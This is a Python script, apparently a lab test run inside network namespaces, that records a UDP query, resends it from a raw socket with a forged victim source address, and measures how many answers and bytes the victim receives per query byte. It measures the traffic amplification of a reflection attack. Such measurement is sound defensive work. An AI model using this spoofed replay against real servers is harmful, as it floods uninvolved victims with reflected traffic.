# Records a query at one host and sends it again with another's address: how many answers the victim gets.
# usage: esp_replay.py NETNS_FILE VICTIM_NETNS_FILE VICTIM TO COUNT
# Prints "ready" when it listens, then the answers to one copy, their octets for each octet of the
# query, and how many seconds COUNT copies took and how many answers they got.
import ctypes
import os
import socket
import struct
import sys
import time

here, there, victim, to, count = sys.argv[1:6]
QUERY, PORT, TARGET_PORT = 64, 4253, 9999


def enter(path):
    fd = os.open(path, os.O_RDONLY)
    if ctypes.CDLL(None, use_errno=True).setns(fd, 0x40000000):
        sys.exit(os.strerror(ctypes.get_errno()))
    os.close(fd)


def hear_query(link):
    while True:
        frame = link.recv(2000)
        if frame[23] == 17 and struct.unpack(">H", frame[36:38])[0] == PORT and frame[43] == QUERY:
            return frame[42:]


def answers(least):
    """Lengths of all that comes: so many, however late they are, and more until nothing came for long."""
    got = []
    try:
        while True:
            target.settimeout(60 if len(got) < least else 0.5)
            got.append(len(target.recv(2000)))
    except socket.timeout:
        return got


enter(there)
target = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
target.setsockopt(socket.SOL_SOCKET, 33, 64 << 20)  # SO_RCVBUFFORCE
target.bind(("", TARGET_PORT))
enter(here)
link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
link.bind(("up", 0))
link.settimeout(300)
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
print("ready", flush=True)
query = hear_query(link)
udp = struct.pack(">HHHH", TARGET_PORT, PORT, 8 + len(query), 0) + query
packet = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
                     socket.inet_aton(victim), socket.inet_aton(to)) + udp
raw.sendto(packet, (to, 0))
once = answers(3)
began = time.monotonic()
for _ in range(int(count)):
    raw.sendto(packet, (to, 0))
took = time.monotonic() - began
print(len(once), round(sum(once) / len(query), 2), int(took), len(answers(1)))
